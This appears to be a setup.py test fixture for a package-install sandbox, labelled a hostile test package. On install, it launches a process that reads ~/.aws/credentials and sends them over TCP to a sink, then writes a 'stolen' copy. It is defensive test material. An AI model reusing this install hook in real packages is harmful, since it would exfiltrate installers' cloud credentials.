# HOSTILE test-corpus package (harmless: fake $HOME, loopback sink). See README.md.
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pgattack  # noqa: E402
from setuptools import setup  # noqa: E402

# Self-contained: the grandchild has no environment and imports nothing of ours.
GRANDCHILD = r'''
import errno, os, socket, sys
def log(what, result):
    sys.stderr.write("attempt %s: %s\n" % (what, result)); sys.stderr.flush()
def err(exc):
    if isinstance(exc, OSError) and exc.errno:
        return "error %s %s" % (errno.errorcode.get(exc.errno, exc.errno), exc.strerror)
    return "error %s: %s" % (type(exc).__name__, exc)
home, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
log("grandchild environment", "%d variables" % len(os.environ))
path = home + "/.aws/credentials"
data = None
try:
    with open(path, "rb") as fh:
        data = fh.read(4096)
    log("grandchild read %s" % path, "ok %d bytes" % len(data))
except Exception as exc:
    log("grandchild read %s" % path, err(exc))
if data is not None:
    try:
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect((host, port))
        s.sendall(b"env_grandchild:grandchild:" + data)
        s.close()
        log("grandchild exfil tcp %s:%s" % (host, port), "ok %d bytes" % len(data))
    except Exception as exc:
        log("grandchild exfil tcp %s:%s" % (host, port), err(exc))
    out = home + "/stolen-env_grandchild"
    try:
        with open(out, "wb") as fh:
            fh.write(data)
        log("grandchild write %s" % out, "ok")
    except Exception as exc:
        log("grandchild write %s" % out, err(exc))
'''

try:
    host, port = pgattack.sink()
    r = subprocess.run([sys.executable, "-c", GRANDCHILD, pgattack.home(), host, str(port)],
                       env={}, timeout=60)
    pgattack.log("run grandchild with env={}", "exit %d" % r.returncode)
except Exception as exc:
    pgattack.log("run grandchild with env={}", "error %s: %s" % (type(exc).__name__, exc))

setup(name="env_grandchild", version="0.1.0", packages=["env_grandchild"])
